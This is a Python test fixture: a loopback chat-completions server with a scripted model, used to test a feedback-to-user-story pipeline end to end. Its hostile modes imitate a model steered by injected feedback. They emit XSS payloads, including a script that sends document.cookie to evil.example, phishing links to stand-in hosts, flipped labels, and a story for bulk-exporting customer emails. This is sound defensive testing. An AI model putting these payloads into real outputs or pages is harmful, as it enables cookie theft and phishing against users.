"""An OpenAI-compatible chat server on loopback with a scripted model, for end-to-end tests over real HTTP.

COMPETENT mode answers every request with plausible, schema-valid JSON built from the request's own
feedback blocks: triage labels from the item's words, a need statement quoting the asks, stories whose goal
and criteria reuse the cited items' words. Like a real model it is not perfect: its first draft of a story
adds one criterion no block states, which the verification gate drops and critique-repair then fixes.

Hostile modes answer as a model steered by injected feedback would (links in every form, markup, flipped
labels, criteria citing other items, a story nobody asked for, a goal about another object than its items); failure modes return garbage, HTTP 500, or
answer too slowly. Every hostile payload sent is counted in `tried`, so a test can compare with what got stored.
This is a test double of a *model*, never evidence of drafting quality.
"""

from __future__ import annotations

import html
import json
import re
import threading
import time
from collections import Counter
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

BLOCK = re.compile(r'<feedback id="([^"]+)"[^>]*>\n(.*?)\n</feedback>', re.S)
WORD = re.compile(r"[a-z][a-z']{3,}")
STOP = frozenset("""
this that with have from they them their there then than what when where which while will would could should
been being were your just like really very much more most some also even only about after again because before
here into over such these those every time times cannot please thanks still does doesn't don't didn't can't
won't it's i'm i've that's there's want need want make makes made always never
""".split())

LINKS = [
    "evil.example/collect", "//evil.tk/c", "evil[.]com/x", "hxxps://evil.example/phish", "198.51.100.7:8080/steal",
    "javascript:alert(document.cookie)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "xn--80ak6aa92e.com/pay", "пример.рф/login", "https://evil.com/a", "evil。zone/grab", "steal.co.uk:443/x",
]
MARKUP = [
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>", "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click here</a>', "&lt;svg onload=alert(1)&gt;", "<iframe src=//evil.tk></iframe>",
]
ATTACKER = {
    "role": "attacker", "goal": "to download every customer's email address in one file",
    "benefit": "I can sell the list",
}
HOSTILE_MODES = ("links", "markup", "flip", "cross_cite", "attacker", "other_object")
_DETERMINER = re.compile(r"^(to \w+(?: \w+)*? (?:my|the|a|an|your|our) )")


def other_object(goal: str) -> str:
    """The cited item's goal about another object: a detail no item states on its thing ("to freeze my card" ->
    "to freeze my damaged card"), as a model would that mixed up two customers' messages. The words still overlap
    the item's, so only reading what the item is about catches it."""
    m = _DETERMINER.match(goal)
    return goal.replace(m.group(1), m.group(1) + "damaged ", 1) if m else goal.replace("to ", "to repair damaged ", 1)


def feedback(messages: list[dict[str, str]]) -> list[tuple[str, str]]:
    """(alias, text) of every feedback block in the first user message, entities decoded."""
    user = next((m["content"] for m in messages if m["role"] == "user"), "")
    return [(a, html.unescape(t)) for a, t in BLOCK.findall(user)]


def words(text: str) -> list[str]:
    return [w for w in dict.fromkeys(WORD.findall(text.lower())) if w not in STOP]


def label(text: str) -> dict[str, Any]:
    low = text.lower()
    if any(w in low for w in ("crash", "error", "broken", "fails", "bug")):
        return {"type": "bug", "sentiment": "negative", "sentiment_score": -0.6, "urgency": "high",
                "urgency_reason": "broken workflow"}
    if "?" in low:
        return {"type": "question", "sentiment": "neutral", "sentiment_score": 0.0, "urgency": "low",
                "urgency_reason": ""}
    if any(w in low for w in ("please", "add ", "wish", "would like", "i want", "let me", "allow")):
        return {"type": "feature_request", "sentiment": "neutral", "sentiment_score": 0.0, "urgency": "low",
                "urgency_reason": ""}
    if any(w in low for w in ("love", "great", "thank", "awesome")):
        return {"type": "praise", "sentiment": "positive", "sentiment_score": 0.8, "urgency": "low",
                "urgency_reason": ""}
    return {"type": "complaint", "sentiment": "negative", "sentiment_score": -0.4, "urgency": "low",
            "urgency_reason": ""}


def goal_for(text: str) -> str:
    """A goal in the item's own words: its ask, its question, or the thing that breaks."""
    low = " ".join(text.lower().split())
    for pattern, template in (
        (r"\blet me ([a-z0-9 ]+)", "to {}"), (r"\bcan'?t i ([a-z0-9 ]+)", "to {}"), (r"\bcan i ([a-z0-9 ]+)", "to {}"), (r"\bhow do i ([a-z0-9 ]+)", "to {}"),
        (r"\b(?:add|like|want) (?:a |an |the )?([a-z0-9 ]+)", "to have {}"), (r"([a-z]+ [a-z]+),? please", "to have {}"),
    ):
        m = re.search(pattern, low)
        if m:
            return template.format(" ".join(m.group(1).split()[:6]))
    m = re.search(r"([a-z0-9 ]+?) (?:crash|fail)", low)
    if m:
        thing = [w for w in m.group(1).split() if w not in ("a", "an", "the", "my")][-2:]
        return f"to use the {' '.join(thing)} without errors"
    return f"to keep the {' '.join(words(text)[:2]) or 'feature'} working"


def story_for(alias: str, text: str, others: list[tuple[str, str]]) -> dict[str, Any]:
    """A plausible story resting on one block, its words reused in goal, benefit and criteria."""
    w = words(text) or ["feature"]
    a, b = w[0], (w[1] if len(w) > 1 else w[0])
    goal = goal_for(text)
    reason = re.search(r"\b(?:so|because) (.+?)[.!?]?$", text, re.I)
    criteria = [
        {"given": f"the situation the feedback describes: {' '.join(text.split()[:12])}",
         "when": f"I try {goal[3:]}", "then": f"the {a} {b} works and no error is shown", "evidence": [alias]},
        {"given": f"the {a} {b} is used again later", "when": f"I repeat the same {a} steps",
         "then": f"the {a} {b} still works", "evidence": [alias]},
    ]
    return {"role": "app user", "goal": goal, "benefit": reason.group(1) if reason else f"the {a} {b} stops getting in my way",
            "acceptance_criteria": criteria, "evidence": [alias]}


class Model:
    """The scripted model: mode decides how it answers; `tried` counts hostile payloads by kind."""

    def __init__(self) -> None:
        self.mode = "competent"
        self.tried: Counter[str] = Counter()
        self.delay = 0.0
        self.on_request: Callable[[], None] | None = None
        self._n = 0
        self._lock = threading.Lock()

    def _next(self) -> int:
        with self._lock:
            self._n += 1
            return self._n

    def answer(self, schema: str, messages: list[dict[str, str]]) -> str:
        blocks = feedback(messages) or [("F1", "feedback")]
        mode = self.mode
        if mode == "garbage":
            return "Sure! Here are some thoughts about your backlog: it looks great."
        if schema == "TriageBatch":
            return json.dumps({"items": [self._triage(a, t) for a, t in blocks]})
        if schema == "NeedStatementOut":
            return json.dumps(self._need(blocks))
        if schema == "NeedMembersOut":
            return json.dumps(self._members(blocks, messages))
        if schema == "NeedMergeOut":
            return json.dumps(self._same(messages))
        if schema == "NeedPlacementOut":
            return json.dumps(self._placements(blocks, messages))
        if schema == "StoryDraftBatch":
            return json.dumps({"stories": self._stories(blocks, first_draft=True)})
        if schema == "RepairOut":
            return json.dumps({"story": self._stories(blocks, first_draft=False)[0],
                               "changes": ["criteria now cite only the blocks that state them"]})
        if schema == "CriteriaOut":
            return json.dumps({"criteria": story_for(*blocks[0], blocks)["acceptance_criteria"]})
        if schema == "StoryJudgement":
            return json.dumps({"well_formed": 3, "problem_oriented": 3, "independent": 3, "small": 3, "valuable": 3,
                               "rationale": "scripted test model"})
        if schema == "CriteriaJudgement":
            return json.dumps({"testable": 3, "unambiguous": 3, "covers_goal": 3, "vague_terms": [],
                               "rationale": "scripted test model"})
        if schema == "Ping":
            return json.dumps({"ok": True})
        raise ValueError(f"no scripted answer for {schema}")

    def _hostile(self, kind: str, payloads: list[str]) -> str:
        self.tried[kind] += 1
        return payloads[self._next() % len(payloads)]

    def _triage(self, alias: str, text: str) -> dict[str, Any]:
        out = {"id": alias, **label(text)}
        if self.mode == "links":
            out["urgency_reason"] = "see " + self._hostile("links", LINKS)
        elif self.mode == "markup":
            out["urgency_reason"] = self._hostile("markup", MARKUP)[:150]
        elif self.mode == "flip":
            self.tried["flip"] += 1
            flipped = "praise" if out["type"] in ("bug", "complaint") else "bug"
            out.update(type=flipped, sentiment="positive" if flipped == "praise" else "negative",
                       sentiment_score=0.9 if flipped == "praise" else -0.9)
        return out

    def _need(self, blocks: list[tuple[str, str]]) -> dict[str, Any]:
        first = " ".join(blocks[0][1].split()[:14]).rstrip(".!?")
        out = {"whys": [f"people write: {first}"[:300], "the current flow does not do what they expect"],
               "statement": f"People cannot rely on the {' '.join(words(blocks[0][1])[:3])} when they need it.",
               "evidence": [a for a, _ in blocks[:3]]}
        if self.mode == "links":
            out["statement"] = f"People should visit {self._hostile('links', LINKS)} to fix their account now."
        elif self.mode == "markup":
            out["statement"] = f"People cannot rely on it {self._hostile('markup', MARKUP)} when they need it."
        return out

    def _members(self, blocks: list[tuple[str, str]], messages: list[dict[str, str]]) -> dict[str, Any]:
        """The need is the first block's words (or the need given); a block shares one of them or is set aside."""
        user = next((m["content"] for m in messages if m["role"] == "user"), "")
        hint = re.search(r"<need_hint>(.*?)</need_hint>", user, re.S)
        need = html.unescape(hint.group(1)).strip() if hint and hint.group(1).strip() else \
            " ".join(words(blocks[0][1])[:6]) or "feedback"
        keep = set(words(need))
        verdicts = [{"id": a, "belongs": bool(keep & set(words(t))),
                     "reason": "same need" if keep & set(words(t)) else "reports something else"} for a, t in blocks]
        if self.mode == "links":
            verdicts[0]["reason"] = "see " + self._hostile("links", LINKS)
        return {"need": need[:160], "verdicts": verdicts}

    def _same(self, messages: list[dict[str, str]]) -> dict[str, Any]:
        """Needs whose phrases share their first two words are one need."""
        user = next((m["content"] for m in messages if m["role"] == "user"), "")
        listed = re.findall(r"^(N\d+): (.*)$", user, re.M)
        by_start: dict[tuple[str, ...], list[str]] = {}
        for key, need in listed:
            by_start.setdefault(tuple(words(html.unescape(need))[:2]), []).append(key)
        groups = [keys for start, keys in by_start.items() if len(keys) > 1 and len(start) == 2]
        if self.mode == "cross_cite":
            self.tried["cross_cite"] += 1
            groups.append(["N1", "N998"])  # a need the request never listed
        return {"groups": groups}

    def _placements(self, blocks: list[tuple[str, str]], messages: list[dict[str, str]]) -> dict[str, Any]:
        """A block joins the listed need sharing most of its words (two at least), else none."""
        user = next((m["content"] for m in messages if m["role"] == "user"), "")
        listed = re.search(r"<needs>(.*?)</needs>", user, re.S)
        needs = [ln.split(":", 1) for ln in (listed.group(1) if listed else "").strip().splitlines() if ":" in ln]
        out = []
        for alias, text in blocks:
            shared = {key.strip(): len(set(words(html.unescape(need))) & set(words(text))) for key, need in needs}
            best = max(shared, key=lambda k: shared[k], default="none")
            key = best if shared.get(best, 0) >= 2 else "none"
            if self.mode == "cross_cite":
                self.tried["cross_cite"] += 1
                key = "N999"  # a need the request never listed
            out.append({"id": alias, "need": key, "reason": "same words" if key != "none" else "no need fits"})
        return {"placements": out}

    def _stories(self, blocks: list[tuple[str, str]], *, first_draft: bool) -> list[dict[str, Any]]:
        alias, text = blocks[0]
        story = story_for(alias, text, blocks)
        if first_draft:  # an honest mistake, a criterion no block states: the gate drops it, critique-repair fixes it
            story["acceptance_criteria"].append({"given": "a manager approves the quarterly budget",
                                                 "when": "the yearly audit runs", "evidence": [alias],
                                                 "then": "an auditor receives a signed ledger"})
        mode = self.mode
        if mode == "links":
            story["benefit"] = f"I can pay at {self._hostile('links', LINKS)}"
            story["acceptance_criteria"][0]["then"] = f"I am sent to {self._hostile('links', LINKS)}"
            story["role"] = f"user of {self._hostile('links', LINKS)}"
        elif mode == "markup":
            story["role"] = f"app user {self._hostile('markup', MARKUP)}"
            story["benefit"] = f"{self._hostile('markup', MARKUP)} my data stays usable"
            story["acceptance_criteria"][1]["then"] = f"the page shows {self._hostile('markup', MARKUP)} and works"
        elif mode == "cross_cite":
            others = [a for a, _ in blocks if a != alias] or [alias]
            self.tried["cross_cite"] += 1
            story["acceptance_criteria"].append(
                {"given": "an administrator account", "when": "I open the admin console",
                 "then": "every customer's password can be reset by me", "evidence": others[-1:]})
        elif mode == "other_object":
            self.tried["other_object"] += 1
            story["goal"] = other_object(story["goal"])
        elif mode == "attacker":
            self.tried["attacker"] += 1
            attack = {**ATTACKER, "evidence": [alias], "acceptance_criteria": [
                {"given": "I am signed in as any user", "when": "I call the bulk contacts endpoint",
                 "then": "every customer's email address downloads as one file", "evidence": [alias]},
                {"given": "the download finished", "when": "I open the file",
                 "then": "it lists every customer's email address", "evidence": [alias]}]}
            return [attack]
        return [story]


class ScriptedServer:
    """A ThreadingHTTPServer on 127.0.0.1 answering /v1/chat/completions; counts requests per schema."""

    def __init__(self) -> None:
        self.model = Model()
        self.requests: Counter[str] = Counter()
        self.errors: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:  # quiet test output
                return

            def do_POST(self) -> None:  # noqa: N802 - http.server naming
                body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))) or b"{}")
                server._handle(self, body)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> ScriptedServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    @property
    def total(self) -> int:
        return sum(self.requests.values())

    def _handle(self, handler: BaseHTTPRequestHandler, body: dict[str, Any]) -> None:
        fmt = body.get("response_format") or {}
        schema = (fmt.get("json_schema") or {}).get("name", "unknown")
        self.requests[schema] += 1
        model = self.model
        if model.on_request is not None:
            try:
                model.on_request()
            except Exception as exc:  # noqa: BLE001 - recorded for the test to assert on
                self.errors.append(f"{type(exc).__name__}: {exc}")
        if model.delay:
            time.sleep(model.delay)
        if model.mode == "error500":
            return self._send(handler, 500, {"error": {"message": "scripted internal error", "type": "server_error"}})
        try:
            content = model.answer(schema, body.get("messages", []))
        except Exception as exc:  # noqa: BLE001 - a bug in the script must be visible, not a hang
            self.errors.append(f"{type(exc).__name__}: {exc}")
            return self._send(handler, 500, {"error": {"message": str(exc)}})
        self._send(handler, 200, {
            "id": "chatcmpl-scripted", "object": "chat.completion", "created": 0, "model": body.get("model", "m"),
            "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content}}],
            "usage": {"prompt_tokens": 100, "completion_tokens": max(1, len(content) // 4), "total_tokens": 100},
        })

    @staticmethod
    def _send(handler: BaseHTTPRequestHandler, status: int, payload: dict[str, Any]) -> None:
        data = json.dumps(payload).encode()
        try:
            handler.send_response(status)
            handler.send_header("content-type", "application/json")
            handler.send_header("content-length", str(len(data)))
            handler.end_headers()
            handler.wfile.write(data)
        except (BrokenPipeError, ConnectionResetError):  # the client timed out first (the slow mode)
            pass
